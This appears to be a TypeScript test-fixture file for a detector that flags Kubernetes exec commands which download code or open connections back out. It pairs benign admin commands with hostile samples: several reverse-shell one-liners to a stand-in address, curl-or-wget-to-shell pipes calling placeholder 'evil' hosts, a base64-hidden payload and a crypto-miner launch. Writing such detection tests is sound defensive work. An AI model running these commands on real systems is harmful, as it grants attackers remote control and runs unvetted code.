import type { Sample } from "../sample.ts";
import { everywhere, hit, miss } from "../variants.ts";
import { notLetIn, withWordsOfDryRun } from "./callers.ts";
import { command, seen, shell, unseen } from "./exec.ts";

const reverse = command("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
const download = command("wget", "http://203.0.113.5/xmr.tgz");

export const execDownloadsOrConnectsBack: readonly Sample[] = [
  ...everywhere("bash turned around", reverse, "somebody gives it commands from outside", ["GKE"]),
  hit("download", download, "a file is fetched from outside"),
  ...seen(
    "somebody gives it commands from outside",
    "nc -e /bin/sh 203.0.113.5 4444",
    "ncat 203.0.113.5 4444 -e /bin/bash",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
    "socat TCP:203.0.113.5:4444 EXEC:/bin/sh",
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0)'",
    "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
  ),
  ...seen(
    "what comes over the network is run",
    "curl -fsSL http://127.0.0.1/x.sh | sh",
    "wget -qO- install.sh.example.com | sudo bash",
    'bash -c "$(curl -fsSL evil)"',
    "bash <(curl -s evil)",
    "echo Y3VybCBldmls | base64 -d | /bin/sh",
    "chmod +x /tmp/m",
    "/tmp/xmrig -o stratum+tcp://pool.example.com:3333",
    "nmap -sT 10.0.0.0/16",
  ),
  hit("not encoded", { ...shell, query: "command=curl&command=https://evil.example.com/x" }, "clients need not encode"),
  ...notLetIn(reverse),
  withWordsOfDryRun(reverse),
  ...unseen(
    "an administrator looks for a fault",
    "curl -s http://localhost:8080/healthz",
    "curl -v http://backend:8080/",
    "wget -qO- http://backend.shop.svc.cluster.local/health",
    "curl -k https://10.96.0.1/version",
    "nc -zv db-cache 5432",
    "python manage.py migrate",
    "ps aux | grep -i refresh",
    "chmod 640 /data/app.conf",
    "cat /etc/resolv.conf",
  ),
  miss("a container of such a name", { ...shell, query: "command=ls&container=nmap" }, "it is no part of the command"),
  miss("the same words in a port-forward", { ...reverse, subresource: "portforward" }, "no command is run"),
  miss("the same words elsewhere", { ...reverse, resource: "example.com/v1/robots" }, "it is no pod"),
  miss("bash turned around", reverse, "GKE records no query of exec", "GKE"),
];
